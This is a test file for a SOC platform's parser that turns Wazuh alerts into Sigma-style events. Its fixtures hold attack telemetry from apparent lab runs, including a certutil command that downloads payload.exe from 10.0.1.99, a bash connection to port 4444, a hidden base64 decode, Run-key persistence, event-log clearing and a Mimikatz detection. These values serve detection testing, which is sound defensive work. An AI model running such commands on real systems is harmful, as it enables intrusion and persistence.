import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Alert, SourceEvent } from '@soc/contracts';
import { normalize } from '../src/sources/normalize.ts';
import { wazuhParser } from '../src/sources/wazuh/index.ts';

type Json = Record<string, unknown>;
// Published Wazuh samples and alerts rendered the way Wazuh writes them (see test/fixtures/alerts/wazuh/README.md).
const fixture = (name: string): Json =>
  JSON.parse(readFileSync(new URL(`../../../test/fixtures/alerts/wazuh/${name}`, import.meta.url), 'utf8')) as Json;
const ctx = { tenantId: 'contoso', senderName: 'test-sender', receivedAt: new Date('2026-11-23T10:00:00Z') };

function eventsOf(body: unknown): SourceEvent[] {
  const outcome = normalize(wazuhParser, body, ctx);
  if (!outcome.ok) throw new Error(JSON.stringify(outcome.errors));
  expect(outcome.alerts).toHaveLength(1);
  return (outcome.alerts[0] as Alert).sourceEvents ?? [];
}
const onlyEvent = (body: unknown): SourceEvent => {
  const events = eventsOf(body);
  expect(events).toHaveLength(1);
  return events[0] as SourceEvent;
};
const SYSMON = { product: 'windows', service: 'sysmon' };
const withWin = (win: Json): Json => ({ ...fixture('sysmon-13-run-key.json'), data: { win } });

describe('Wazuh eventchannel events as Sigma events', () => {
  it('Sysmon 1: Sigma names, values unescaped once, the placeholders Wazuh dropped read back from the message', () => {
    const e = onlyEvent(fixture('sysmon-1-public-folder.json'));
    expect(e.logsources).toEqual([SYSMON, { ...SYSMON, category: 'process_creation' }]);
    expect(e.pointer).toBe('/data/win');
    expect(e.fields).toMatchObject({
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Provider_Name: 'Microsoft-Windows-Sysmon',
      Computer: 'cfo.ExchangeTest.com',
      Image: 'C:\\Users\\Public\\Java-Update.exe',
      CommandLine: '"C:\\Users\\Public\\Java-Update.exe"',
      ParentImage: 'C:\\Windows\\System32\\wscript.exe',
      ParentCommandLine: '"C:\\Windows\\System32\\WScript.exe" "C:\\Users\\Public\\Java-Update.vbs"',
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: 'EXCHANGETEST\\AtomicRed',
      IntegrityLevel: 'Medium',
      // eventdata has none of these: Wazuh leaves out a Data element whose value is "-"; the message keeps it.
      OriginalFileName: '-',
      FileVersion: '-',
      Description: '-',
      Product: '-',
      Company: '-',
    });
    expect(Object.keys(e.fields)).not.toContain('image');
  });

  it('takes only the placeholder from the message, never a value an attacker could have written into it', () => {
    const base = fixture('sysmon-1-public-folder.json');
    const win = (base['data'] as Json)['win'] as Json;
    const system = win['system'] as Json;
    const message =
      '"Process Create:\r\nImage: C:\\Windows\\explorer.exe\r\nCommandLine: x\r\nDescription: Microsoft Windows\r\nCompany: -\r\nParentImage: -"';
    const e = onlyEvent({ ...base, data: { win: { ...win, system: { ...system, message } } } });
    expect(e.fields['Image']).toBe('C:\\Users\\Public\\Java-Update.exe');
    expect(e.fields['ParentImage']).toBe('C:\\Windows\\System32\\wscript.exe');
    expect(e.fields['Company']).toBe('-');
    expect(e.fields).not.toHaveProperty('Description');
  });

  it('Sysmon 3: network connection with the host names Wazuh dropped', () => {
    const e = onlyEvent(fixture('sysmon-3-powershell-rpc.json'));
    expect(e.logsources).toEqual([SYSMON, { ...SYSMON, category: 'network_connection' }]);
    expect(e.fields).toMatchObject({
      EventID: 3,
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      Initiated: 'true',
      SourceIp: '192.168.0.121',
      DestinationIp: '192.168.0.57',
      DestinationPort: '135',
      DestinationHostname: '-',
      SourceHostname: '-',
      User: 'EXCHANGETEST\\Administrator',
    });
  });

  it('Sysmon 11, 13 and 22: file, registry (registry_set and registry_event) and DNS events', () => {
    const file = onlyEvent(fixture('sysmon-11-powershell-appdata.json'));
    expect(file.logsources).toEqual([SYSMON, { ...SYSMON, category: 'file_event' }]);
    expect(file.fields['TargetFilename']).toBe('C:\\Users\\AtomicRed\\AppData\\Roaming\\TransbaseOdbcDriver\\pscp.exe');
    const registry = onlyEvent(fixture('sysmon-13-run-key.json'));
    expect(registry.logsources).toEqual([
      SYSMON,
      { ...SYSMON, category: 'registry_event' },
      { ...SYSMON, category: 'registry_set' },
    ]);
    expect(registry.fields).toMatchObject({
      EventType: 'SetValue',
      TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Java-Update',
      Details: 'C:\\Users\\Public\\Java-Update.vbs',
    });
    const dns = onlyEvent(fixture('sysmon-22-ip-lookup.json'));
    expect(dns.logsources).toEqual([SYSMON, { ...SYSMON, category: 'dns_query' }]);
    expect(dns.fields).toMatchObject({ QueryName: 'api.ipify.org', QueryStatus: '0', RuleName: '-' });
  });

  it('Security 4688: NewProcessName and ParentProcessName are also Image and ParentImage (process_creation)', () => {
    const e = onlyEvent(fixture('security-4688-certutil.json'));
    expect(e.logsources).toEqual([
      { product: 'windows', service: 'security' },
      { product: 'windows', category: 'process_creation', service: 'security' },
    ]);
    expect(e.fields).toMatchObject({
      EventID: 4688,
      Channel: 'Security',
      Provider_Name: 'Microsoft-Windows-Security-Auditing',
      NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
      Image: 'C:\\Windows\\System32\\certutil.exe',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      ParentImage: 'C:\\Windows\\System32\\cmd.exe',
      CommandLine: 'certutil.exe -urlcache -split -f http://10.0.1.99/payload.exe C:\\Users\\Public\\payload.exe',
      SubjectUserName: 'labadmin',
    });
  });

  it('Security 4624: the logon with its type and address, values as Wazuh wrote them', () => {
    const e = onlyEvent(fixture('security-4624-network-logon.json'));
    expect(e.logsources).toEqual([{ product: 'windows', service: 'security' }]);
    expect(e.fields).toMatchObject({
      EventID: 4624,
      LogonType: 3,
      IpAddress: '127.0.0.1',
      TargetUserName: 'ANONYMOUS LOGON',
      LmPackageName: 'NTLM V1',
    });
  });

  it('PowerShell 4104: ScriptBlockText and Path (ps_script)', () => {
    const e = onlyEvent(fixture('powershell-4104-screenshot.json'));
    expect(e.logsources).toEqual([
      { product: 'windows', service: 'powershell' },
      { product: 'windows', category: 'ps_script', service: 'powershell' },
    ]);
    expect(e.fields['ScriptBlockText']).toContain('$graphics.CopyFromScreen($bounds.Location');
    expect(e.fields['Path']).toBe('C:\\Users\\AtomicRed\\AppData\\Roaming\\TransbaseOdbcDriver\\screenshot__.ps1');
  });

  it('UserData under its own name (WMI 5858 as win.operation_ClientFailure); Defender names with spaces also without', () => {
    const wmi = onlyEvent(
      withWin({
        system: {
          providerName: 'Microsoft-Windows-WMI-Activity',
          eventID: '5858',
          channel: 'Microsoft-Windows-WMI-Activity/Operational',
        },
        operation_ClientFailure: {
          operation: 'ExecMethod - Win32_NTEventlogFile::ClearEventlog',
          resultCode: '0x80041003',
          user: 'LAB\\\\eve',
        },
      }),
    );
    expect(wmi.logsources).toEqual([{ product: 'windows', service: 'wmi' }]);
    expect(wmi.fields).toMatchObject({
      Operation: 'ExecMethod - Win32_NTEventlogFile::ClearEventlog',
      ResultCode: '0x80041003',
      User: 'LAB\\eve',
    });
    const defender = onlyEvent(
      withWin({
        system: {
          providerName: 'Microsoft-Windows-Windows Defender',
          eventID: '1116',
          channel: 'Microsoft-Windows-Windows Defender/Operational',
        },
        eventdata: { 'threat Name': 'HackTool:Win32/Mimikatz', path: 'file:_C:\\\\Tools\\\\mimikatz.exe' },
      }),
    );
    expect(defender.logsources).toEqual([{ product: 'windows', service: 'windefend' }]);
    expect(defender.fields).toMatchObject({
      'Threat Name': 'HackTool:Win32/Mimikatz',
      ThreatName: 'HackTool:Win32/Mimikatz',
      Path: 'file:_C:\\Tools\\mimikatz.exe',
    });
  });

  it('an event id that is not a number, or no system part, is no event', () => {
    expect(eventsOf(withWin({ system: { eventID: 'n/a', channel: 'Security' }, eventdata: { a: 'b' } }))).toEqual([]);
    expect(eventsOf(withWin({ eventdata: { image: 'C:\\\\x.exe' } }))).toEqual([]);
  });
});

describe('Wazuh Linux events as Sigma events', () => {
  it('Sysmon for Linux 1 (community sysmon-linux decoder): Sigma names, XML entities decoded, linux process_creation', () => {
    const e = onlyEvent(fixture('sysmon-linux-1-base64.json'));
    expect(e.logsources).toEqual([
      { product: 'linux', service: 'sysmon' },
      { product: 'linux', category: 'process_creation' },
    ]);
    expect(e.pointer).toBe('/data');
    expect(e.fields).toMatchObject({
      EventID: 1,
      Channel: 'Linux-Sysmon/Operational',
      Computer: 'ubuntu-endpoint',
      Image: '/usr/bin/base64',
      CommandLine: 'base64 -d /tmp/.x.b64',
      ParentImage: '/usr/bin/dash',
      ParentCommandLine: 'sh -c "base64 -d /tmp/.x.b64 > /tmp/.x"',
      CurrentDirectory: '/home/ubuntu',
      User: 'ubuntu',
      LogonId: '1000',
      OriginalFileName: '-',
    });
  });

  it('Sysmon for Linux 3: network_connection, DestinationIp as that decoder capitalises it', () => {
    const e = onlyEvent(fixture('sysmon-linux-3-bash-connect.json'));
    expect(e.logsources).toEqual([
      { product: 'linux', service: 'sysmon' },
      { product: 'linux', category: 'network_connection' },
    ]);
    expect(e.fields).toMatchObject({
      Image: '/usr/bin/bash',
      DestinationIp: '10.0.1.99',
      DestinationPort: '4444',
      Initiated: 'true',
    });
  });

  it('Sysmon for Linux under data.win (a decoder imitating eventchannel) is still a Linux event', () => {
    const body = fixture('sysmon-linux-1-base64.json');
    const data = body['data'] as Json;
    const e = onlyEvent({ ...body, decoder: { name: 'json' }, data: { win: data } });
    expect(e.logsources).toEqual([
      { product: 'linux', service: 'sysmon' },
      { product: 'linux', category: 'process_creation' },
    ]);
    expect(e.pointer).toBe('/data/win');
    expect(e.fields).toMatchObject({
      Image: '/usr/bin/base64',
      ParentCommandLine: 'sh -c "base64 -d /tmp/.x.b64 > /tmp/.x"',
    });
  });

  it('a data.system/eventdata pair of another decoder is not taken for Sysmon for Linux', () => {
    const other: Json = { ...fixture('sysmon-linux-1-base64.json'), decoder: { name: 'json' } };
    const data = other['data'] as Json;
    other['data'] = { ...data, system: { ...(data['system'] as Json), channel: 'Application' } };
    expect(eventsOf(other)).toEqual([]);
  });

  it('auditd: one event per record Wazuh kept, under the audit record names; SYSCALL named for x86_64', () => {
    const events = eventsOf(fixture('auditd-tcpdump.json'));
    const auditd = [{ product: 'linux', service: 'auditd' }];
    expect(events.map((e) => [e.fields['type'], e.pointer])).toEqual([
      ['SYSCALL', '/data/audit'],
      ['EXECVE', '/data/audit/execve'],
      [undefined, '/data/audit'],
      ['CWD', '/data/audit'],
      ['PATH', '/data/audit/file'],
    ]);
    for (const e of events.filter((_, i) => i !== 2)) expect(e.logsources).toEqual(auditd);
    // The exec as the process creation it is, for SigmaHQ's linux/process_creation rules.
    expect(events[2]).toMatchObject({
      logsources: [{ product: 'linux', category: 'process_creation' }],
      fields: {
        Image: '/usr/bin/tcpdump',
        CommandLine: 'tcpdump -c 100 -i eth0',
        CurrentDirectory: '/home/ubuntu',
        ProcessId: '24702',
        ParentProcessId: '24410',
        LogonId: '1000',
      },
    });
    expect(events[0]?.fields).toMatchObject({
      syscall: '59',
      SYSCALL: 'execve',
      comm: 'tcpdump',
      exe: '/usr/bin/tcpdump',
      key: 'audit-wazuh-c',
      ses: '3',
      euid: '0',
      auid: '1000',
    });
    expect(events[0]?.fields).not.toHaveProperty('command');
    expect(events[1]?.fields).toEqual({ type: 'EXECVE', a0: 'tcpdump', a1: '-c', a2: '100', a3: '-i', a4: 'eth0' });
    expect(events[3]?.fields).toEqual({ type: 'CWD', cwd: '/home/ubuntu' });
    expect(events[4]?.fields).toEqual({ type: 'PATH', name: '/usr/bin/tcpdump', inode: '1315', mode: '0100755' });
  });

  it('auditd on another architecture keeps the syscall number only', () => {
    const alert = fixture('auditd-webshell-id.json');
    const audit = (alert['data'] as Json)['audit'] as Json;
    const [first] = eventsOf({ ...alert, data: { audit: { ...audit, arch: 'c00000b7' } } });
    expect(first?.fields['syscall']).toBe('59');
    expect(first?.fields).not.toHaveProperty('SYSCALL');
  });
});

describe('Sysmon for Linux entities', () => {
  const alertOf = (body: unknown): Alert => {
    const outcome = normalize(wazuhParser, body, ctx);
    if (!outcome.ok) throw new Error(JSON.stringify(outcome.errors));
    return outcome.alerts[0] as Alert;
  };

  it('names the process with its command line and parent, the parent, and the user, values exactly as Sysmon wrote them', () => {
    const alert = alertOf(fixture('sysmon-linux-1-base64.json'));
    const processes = alert.entities.filter((e) => e.type === 'process');
    expect(processes).toEqual([
      expect.objectContaining({
        value: '/usr/bin/base64',
        name: 'base64',
        commandLine: 'base64 -d /tmp/.x.b64',
        pid: 24518,
        parentName: 'dash',
        origin: 'source',
      }),
      expect.objectContaining({
        value: '/usr/bin/dash',
        commandLine: 'sh -c "base64 -d /tmp/.x.b64 > /tmp/.x"',
        pid: 24410,
        role: 'related',
      }),
    ]);
    expect(alert.entities).toContainEqual(expect.objectContaining({ type: 'user', value: 'ubuntu', role: 'actor' }));
  });

  it('keeps a backslash of a Linux command line (it is not escaped twice as Windows values are)', () => {
    const body = fixture('sysmon-linux-1-base64.json');
    const data = body['data'] as Json;
    const eventdata = { ...(data['eventdata'] as Json), commandLine: 'printf "a\\nb" \\"x\\"' };
    const alert = alertOf({ ...body, data: { ...data, eventdata } });
    expect(alert.entities.find((e) => e.type === 'process')).toMatchObject({ commandLine: 'printf "a\\nb" \\"x\\"' });
  });

  it('names the addresses of a network connection', () => {
    const alert = alertOf(fixture('sysmon-linux-3-bash-connect.json'));
    expect(alert.entities).toContainEqual(expect.objectContaining({ type: 'ip', value: '10.0.1.99', role: 'target' }));
    expect(alert.entities).toContainEqual(expect.objectContaining({ type: 'process', value: '/usr/bin/bash' }));
  });
});

describe('Wazuh alerts without a raw event', () => {
  it.each(['sshd-invalid-user.json', 'sshd-invalid-user-2018.json', 'syscheck-whodata-modified.json'])(
    '%s carries none',
    (name) => {
      expect(eventsOf(fixture(name))).toEqual([]);
    },
  );
});
